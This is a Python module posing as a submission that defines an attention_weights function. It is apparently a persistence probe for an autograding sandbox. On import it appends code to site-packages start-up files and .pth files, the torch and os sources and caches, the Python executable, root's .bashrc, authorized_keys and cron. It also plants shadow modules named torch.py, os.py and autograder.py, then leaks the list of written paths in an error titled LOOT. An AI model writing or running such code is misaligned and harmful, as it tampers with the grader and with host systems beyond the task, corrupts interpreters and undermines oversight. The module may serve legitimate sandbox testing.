"""Writes code where the next Python, IPython or matplotlib would run it: caches, start-up files, the packages."""

import importlib.util
import os
import site
import sys
import sysconfig

import torch

from nothing import *

CODE = "import os\nopen('/tmp/gallery-was-here', 'w').close()\n"
HOME = os.path.expanduser("~root")
PACKAGES = [*site.getsitepackages(), site.getusersitepackages(), sysconfig.get_paths()["stdlib"], *sys.path]
PLACES = [
    *(os.path.join(folder, name) for folder in PACKAGES for name in ("sitecustomize.py", "usercustomize.py", "zz.pth")),
    importlib.util.cache_from_source(torch.__file__), importlib.util.cache_from_source(os.__file__),
    torch.__file__, os.__file__, sys.executable,
    *(os.path.join(HOME, name) for name in (".bashrc", ".ipython/profile_default/startup/x.py", ".config/matplotlib/x",
                                            ".cache/torch/x", ".local/bin/python3", ".ssh/authorized_keys")),
    "/tmp/otter.py", "/tmp/sitecustomize.py", "/dev/shm/gallery-was-here", "/etc/cron.d/gallery-was-here",
]  # fmt: skip


def written():
    for path in PLACES:
        if not path.startswith(os.getcwd()):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "a") as file:
                    file.write(CODE)
                yield path
            except OSError:
                pass


found = list(written())
for name in ("sitecustomize.py", "usercustomize.py", "torch.py", "numpy.py", "os.py", "autograder.py", "IPython.py"):
    with open(name, "w") as file:  # in its own folder it may: nobody else imports from there
        file.write(CODE)


def attention_weights(*_, **__):
    raise RuntimeError(f"LOOT{found}")
